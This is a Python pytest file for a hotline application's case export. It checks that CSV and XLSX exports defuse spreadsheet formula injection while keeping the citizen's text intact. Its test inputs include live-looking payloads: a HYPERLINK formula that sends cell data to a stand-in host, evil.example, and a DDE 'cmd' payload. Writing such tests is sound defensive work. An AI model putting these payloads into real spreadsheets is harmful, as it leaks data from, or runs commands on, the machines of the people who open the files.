"""Exports never hand a spreadsheet a live formula, and the citizen's text survives (issue 14, finding 1)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from hotline.analytics.case_list import EXPORT_COLUMNS
from hotline.analytics.exports import csv_chunks, xlsx_chunks
from hotline.privacy.spreadsheet_cells import csv_safe, from_csv_cell, is_formula_like

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "＝SUM(A1:A9)",
    "+86 1+1",
    "-2+3",
    "@SUM(1,1)",
    "  =1",
]


def _rows():
    for i, text in enumerate(EVIL, start=1):
        yield {"id": i, "tracking_code": f"T{i}", "created_at": datetime(2026, 3, 2, tzinfo=UTC),
               "channel": "web", "intent": "complaint", "status": "accepted", "title": text,
               "citizen_phone": "13800138000", "town": text, "department": None, "service_item": None,
               "due_at": None, "closed_at": None, "content": text}


@pytest.mark.parametrize("text", EVIL)
def test_formula_like_text_is_recognised(text):
    assert is_formula_like(text)
    assert from_csv_cell(csv_safe(text)) == text


@pytest.mark.parametrize("text", ["-3", "+5.5", "普通文字 = 1", "", "'quoted"])
def test_ordinary_text_and_plain_numbers_are_left_alone(text):
    assert csv_safe(text) == text


def test_case_csv_export_quotes_every_formula_like_cell_and_keeps_the_text():
    data = b"".join(csv_chunks(_rows(), {}, unmask=True)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))[1:]
    title = [k for k, _ in EXPORT_COLUMNS].index("title")
    assert len(rows) == len(EVIL)
    for row, text in zip(rows, EVIL, strict=True):
        for cell in row:
            assert not cell.lstrip(" \t\r\n").startswith(tuple("=+-@＝＋－＠")), cell
        assert row[title] == "'" + text


def test_case_xlsx_export_has_no_formula_and_keeps_the_text(tmp_path):
    path = tmp_path / "cases.xlsx"
    path.write_bytes(b"".join(xlsx_chunks(_rows(), {}, unmask=True)))
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    contents = [row[-1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert contents == [t.replace("\r", "\n") for t in EVIL]  # XML keeps a CR as a line break

